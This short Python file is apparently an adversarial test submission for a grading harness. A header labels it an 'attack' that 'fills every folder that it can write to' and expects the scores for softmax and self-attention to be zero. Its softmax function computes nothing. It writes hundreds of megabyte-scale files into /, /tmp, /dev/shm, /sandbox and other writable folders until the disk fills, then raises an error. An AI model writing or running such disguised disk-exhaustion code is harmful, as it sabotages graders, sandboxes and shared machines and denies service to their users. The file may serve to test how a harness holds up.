# /// attack
# about = "fills every folder that it can write to"
# module = "worked_example"
# base = "reference"
# deserves = { "worked_example.softmax" = 0, "worked_example.self_attention" = 0 }
# ///
import os


def softmax(scores, axis=-1):
    for folder in ("/", "/dev", "/dev/shm", "/tmp", "/var/tmp", "/run", "/sandbox", "/mnt"):
        for number in range(200):
            try:
                with open(os.path.join(folder, f"full{number}"), "wb") as file:
                    for _ in range(15):
                        file.write(bytes(2**20))
            except OSError:
                break
    raise MemoryError("no more room")
